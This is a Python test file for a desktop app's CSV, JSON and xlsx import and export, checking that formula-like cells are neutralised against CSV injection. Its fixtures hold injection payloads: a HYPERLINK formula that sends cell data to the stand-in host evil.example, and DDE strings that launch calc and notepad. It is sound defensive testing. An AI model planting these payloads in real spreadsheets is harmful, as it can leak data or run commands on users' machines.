"""CSV exports never hold a cell a spreadsheet runs as a formula (OWASP: CSV injection);
imports take our own neutralising quote off and warn about formula-like cells by row and
column, never by value; JSON exports are written as stored."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from sqlalchemy import text

from lookingbeyond_desktop.store import Store
from lookingbeyond_desktop.store.exchange import (
    FORMULA_STARTS,
    export_csv,
    export_json,
    import_file,
    neutralise_cell,
    unneutralise_cell,
)
from tests.conftest import make_org

HOSTILE = {
    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "acronym": "@SUM(1+1)",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "address": "+cmd|' /C notepad'!A0",
}


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def export_to(store: Store, path: Path, table: str) -> Path:
    with store.engine.connect() as connection:
        export_csv(connection, path, table=table)
    return path


def test_csv_export_neutralises_formula_like_text_cells(store: Store, tmp_path: Path) -> None:
    """Every text cell that starts with =, +, -, @, tab or CR is written with a leading
    quote; the cities list (one cell) too; other cells are as stored."""
    org = make_org(store, name=HOSTILE["name"], acronym=HOSTILE["acronym"], notes=HOSTILE["notes"],
                   address=HOSTILE["address"], cities=["-Nairobi", "Mombasa"])
    (row,) = csv_rows(export_to(store, tmp_path / "orgs.csv", "organizations"))
    assert row["id"] == org
    for name in ("name", "acronym", "notes", "address"):
        assert row[name] == "'" + str(HOSTILE[name])
    assert row["cities"] == "'-Nairobi; Mombasa"
    assert row["country"] == "MX"
    for cell in row.values():
        assert not cell.startswith(FORMULA_STARTS), cell


def test_values_starting_with_a_tab_or_a_carriage_return_are_neutralised(store: Store, tmp_path: Path) -> None:
    """A stored value that starts with a tab or CR (headquarters may send one; the form trims
    them) is written with the leading quote as well."""
    org = make_org(store)
    with store.engine.begin() as connection:
        connection.execute(text("UPDATE organizations SET notes = :n, address = :a WHERE id = :id"),
                           {"n": "\t=1+1", "a": "\r=1+1", "id": org})
    (row,) = csv_rows(export_to(store, tmp_path / "orgs.csv", "organizations"))
    assert row["notes"] == "'\t=1+1" and row["address"] == "'\r=1+1"


def test_negative_numbers_in_numeric_columns_stay_numbers(store: Store, tmp_path: Path) -> None:
    """A number is not text: a negative amount is written as -12.50, not '-12.50 (the
    writer refuses one, so it is put in as headquarters could send it)."""
    org = make_org(store)
    with store.write() as writer:
        grant = writer.create("grants", {"organization_id": org, "amount": "100", "currency": "USD",
                                         "purpose": "-seed funding", "status": "approved"})
    with store.engine.begin() as connection:
        connection.execute(text("UPDATE grants SET amount = '-12.50' WHERE id = :id"), {"id": grant})
    (row,) = csv_rows(export_to(store, tmp_path / "grants.csv", "grants"))
    assert row["amount"] == "-12.50"
    assert row["purpose"] == "'-seed funding"


def test_json_export_is_unchanged(store: Store, tmp_path: Path) -> None:
    """JSON is data, not a spreadsheet: values are written as stored."""
    make_org(store, name=HOSTILE["name"], notes=HOSTILE["notes"])
    with store.engine.connect() as connection:
        export_json(connection, tmp_path / "all.json")
    (org,) = json.loads((tmp_path / "all.json").read_text(encoding="utf-8"))["organizations"]
    assert org["name"] == HOSTILE["name"] and org["notes"] == HOSTILE["notes"]


def test_export_then_import_round_trips_exactly(store: Store, tmp_path: Path) -> None:
    """The quote an export adds is taken off by the import: importing the export into an
    empty replica and exporting again gives the same bytes, with no warning."""
    make_org(store, name=HOSTILE["name"], acronym=HOSTILE["acronym"], notes=HOSTILE["notes"],
             address="'=already quoted", cities=["-Nairobi"], phone="+254 20 123 4567")
    first = export_to(store, tmp_path / "first.csv", "organizations")
    with Store.open(tmp_path / "other") as other:
        with other.write() as writer:
            result = import_file(writer, "organizations", first)
        assert result.created == 1 and result.warnings == ()
        second = export_to(other, tmp_path / "second.csv", "organizations")
        with other.engine.connect() as connection:
            stored = connection.execute(text("SELECT name, acronym, notes, address, phone "
                                             "FROM organizations")).one()
    assert second.read_bytes() == first.read_bytes()
    assert tuple(stored) == (HOSTILE["name"], HOSTILE["acronym"], HOSTILE["notes"],
                             "'=already quoted", "+254 20 123 4567")


def test_import_warns_about_formula_like_cells_by_row_and_column(store: Store, tmp_path: Path) -> None:
    """A CSV made elsewhere with formula-like cells imports (as text) with one warning per
    cell naming its row and column, never its value; telephone numbers do not warn.  The
    command prints the warnings on standard error."""
    source = tmp_path / "orgs.csv"
    source.write_text("name,country,notes,phone\n"
                      "Plain,KE,nothing odd,+254 20 123 4567\n"
                      "=HYPERLINK(\"http://x\"),KE,@SUM(A1),-1\n", encoding="utf-8")
    with store.write() as writer:
        result = import_file(writer, "organizations", source)
    assert result.created == 2
    assert [w.split(":")[0] for w in result.warnings] == ["row 3, column name", "row 3, column notes"]
    assert not any("HYPERLINK" in w or "SUM" in w for w in result.warnings)
    with store.engine.connect() as connection:
        names = set(connection.execute(text("SELECT name FROM organizations")).scalars())
    assert "=HYPERLINK(\"http://x\")" in names
    command = subprocess.run(
        [sys.executable, "-m", "lookingbeyond_desktop", "import", "--data-dir", str(tmp_path / "cli"),
         "--table", "organizations", str(source)],
        capture_output=True, text=True, timeout=120, env=dict(os.environ))
    assert command.returncode == 0, command.stderr
    assert "warning: row 3, column name" in command.stderr
    assert "HYPERLINK" not in command.stderr + command.stdout


def test_xlsx_import_takes_off_the_quote_and_warns(store: Store, tmp_path: Path) -> None:
    """In a workbook too: a quoted formula-like text loses its quote, an unquoted one warns
    by row and column; number cells are numbers."""
    book = Workbook()
    sheet = book.active
    sheet.append(["name", "country", "notes", "acronym"])
    sheet.append(["'=quoted by our export", "KE", "+cmd|' /C calc'!A0", None])
    book.save(tmp_path / "orgs.xlsx")
    with store.write() as writer:
        result = import_file(writer, "organizations", tmp_path / "orgs.xlsx")
    assert [w.split(":")[0] for w in result.warnings] == ["row 2, column notes"]
    with store.engine.connect() as connection:
        assert connection.execute(text("SELECT name FROM organizations")).scalar() == "=quoted by our export"


@given(st.text(max_size=30))
def test_neutralising_is_undone_exactly_and_never_leaves_a_formula(value: str) -> None:
    """For any text: the neutralised cell never starts like a formula, and taking the quote
    off gives the text back exactly."""
    cell = neutralise_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert unneutralise_cell(cell) == value
